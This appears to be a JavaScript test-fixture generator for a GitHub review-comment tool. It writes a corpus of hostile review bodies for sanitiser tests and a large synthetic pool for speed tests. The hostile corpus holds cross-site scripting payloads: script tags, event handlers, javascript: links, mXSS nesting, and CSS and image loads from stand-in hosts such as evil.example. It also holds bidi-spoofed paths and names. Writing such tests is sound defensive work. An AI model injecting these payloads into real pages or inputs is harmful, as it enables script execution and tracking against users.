@@ -1,0 +1,68 @@
+// Test inputs generated at run time: a corpus of hostile review bodies and a large synthetic pool.
+'use strict';
+const fs = require('fs');
+
+const FLAG = 'window.__pwned=true';
+
+/** One review per attack; every body mentions "security" so the keyword rule proposes it. */
+function makeHostileCorpus(file) {
+  const mk = (n, kind, body, extra = {}) => ({
+    id: 7700000000 + n, kind,
+    record: {
+      id: 7700000000 + n, pull_request_review_id: 5500000000 + n, body,
+      html_url: `https://github.com/hostile/repo/pull/${n}#discussion_r${7700000000 + n}`,
+      path: extra.path || 'src/app.js', user: { login: extra.login || 'mallory' },
+      diff_hunk: extra.diffHunk || '@@ -1,2 +1,2 @@\n const a = 1;\n-run(input)\n+run(sanitize(input))',
+      commit_id: 'c'.repeat(40), original_commit_id: 'c'.repeat(40), line: 2, original_line: 2, created_at: '2024-01-01T00:00:00Z',
+    },
+  });
+  const big = Array.from({ length: 20000 }, (_, i) => `Line ${i} of a very long security review comment with **markdown** and \`code\`.`).join('\n');
+  const cases = [
+    mk(1, 'script', `Security issue <script>${FLAG}</script> and <SCRIPT SRC=https://evil.example/x.js></SCRIPT>`),
+    mk(2, 'handlers', `Security: <img src=x onerror="${FLAG}"> <svg onload="${FLAG}"></svg> <div onmouseover="${FLAG}">hover</div> <body onload="${FLAG}">`),
+    mk(3, 'javascript-links', `Security link [click me](javascript:${FLAG}) <a href="javascript:${FLAG}">a</a> [data](data:text/html,<script>${FLAG}</script>) [vb](vbscript:msgbox) <javascript:alert(1)>`),
+    mk(4, 'remote-images', `Security tracker ![pixel](https://evil.example/pixel.png) <img src="https://evil.example/img.png"> ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) [![nested](https://attacker.test/a.png)](https://attacker.test/)`),
+    mk(5, 'css-escapes', `Security <style>body{display:none} * {background:url(https://evil.example/css.png)}</style> <div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(\\68ttps://evil.example/bg)">cover</div> <link rel=stylesheet href=https://evil.example/s.css>`),
+    mk(6, 'mxss', `Security <math><mtext><table><mglyph><style><img src=x onerror=${FLAG}></style></mglyph></table></mtext></math> <scr<script>ipt>${FLAG}</scr</script>ipt> <iframe src="https://evil.example/frame"></iframe> <object data="https://evil.example/o"></object> <!-- <img src=x onerror=${FLAG}> -->`),
+    mk(7, 'huge', `Security review of a huge generated file.\n\n${big}\n${big}`.slice(0, 1024 * 1024)),
+    mk(8, 'long-line', `Security ${'A'.repeat(200000)} ${'https://evil.example/' + 'b'.repeat(5000)}`),
+    mk(9, 'bidi', `Security: access check \u202E } \u2066if (isAdmin)\u2069 \u2067begin\u2069 admins only \u202C with zero\u200Bwidth\u200D and \uFEFF BOM and \u0007 bell`, { path: 'src/\u202Egnp.js', login: '\u202Emallory' }),
+    mk(10, 'deep-nesting', `Security ${'>'.repeat(3000)} deep\n\n${Array.from({ length: 400 }, (_, i) => ' '.repeat(i * 2) + '- item').join('\n')}\n\n${'['.repeat(5000)}x${']'.repeat(5000)}\n${'*'.repeat(20000)}`),
+    mk(11, 'html-in-metadata', 'Security problem in the file name and author', {
+      path: '<img src=x onerror=window.__pwned=true>.js', login: `<script>${FLAG}</script>`,
+      diffHunk: `@@ -1,1 +1,2 @@\n-<script>${FLAG}</script>\n+<img src=https://evil.example/d.png onerror=${FLAG}>\n+\u202Eevil`,
+    }),
+    mk(12, 'table-overflow', `Security table\n\n| ${Array.from({ length: 200 }, (_, i) => `col${i}`).join(' | ')} |\n| ${Array.from({ length: 200 }, () => '---').join(' | ')} |\n| ${Array.from({ length: 200 }, () => 'x'.repeat(30)).join(' | ')} |`),
+  ];
+  fs.writeFileSync(file, cases.map((c) => JSON.stringify(c.record)).join('\n') + '\n');
+  return cases.map((c) => ({ id: String(c.id), kind: c.kind }));
+}
+
+/** A pool of synthetic GitHub REST review comments, written with one sync write per 10k rows. */
+function makeSpeedPool(file, size) {
+  const words = 'the this input check value should handle error null user token request query escape buffer path file config test please rename why maybe nit return loop update'.split(' ');
+  const exts = ['js', 'ts', 'py', 'go', 'java', 'c', 'rb', 'rs'];
+  const fd = fs.openSync(file, 'w');
+  let seed = 12345;
+  const rnd = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
+  let chunk = [];
+  for (let i = 0; i < size; i++) {
+    const n = 6 + Math.floor(rnd() * 30);
+    const body = Array.from({ length: n }, () => words[Math.floor(rnd() * words.length)]).join(' ') + (i % 97 === 0 ? ' security' : '') + ` #${i}`;
+    const ext = exts[i % exts.length];
+    const rec = {
+      id: 8000000000 + i, body, path: `src/module${i % 500}/file${i % 37}.${ext}`,
+      html_url: `https://github.com/org${i % 300}/repo${i % 1000}/pull/${1 + (i % 5000)}#discussion_r${8000000000 + i}`,
+      user: { login: `dev${i % 2000}` }, commit_id: (i % 16).toString(16).repeat(40), line: 12,
+      diff_hunk: `@@ -10,4 +10,5 @@ function f${i}() {\n   const x = read(input);\n-  use(x);\n+  const y = check(x);\n+  use(y);\n   return x;`,
+      created_at: '2023-05-01T12:00:00Z',
+    };
+    chunk.push(JSON.stringify(rec));
+    if (chunk.length === 10000) { fs.writeSync(fd, chunk.join('\n') + '\n'); chunk = []; }
+  }
+  if (chunk.length) fs.writeSync(fd, chunk.join('\n') + '\n');
+  fs.closeSync(fd);
+  return { size };
+}
+
+module.exports = { makeHostileCorpus, makeSpeedPool };
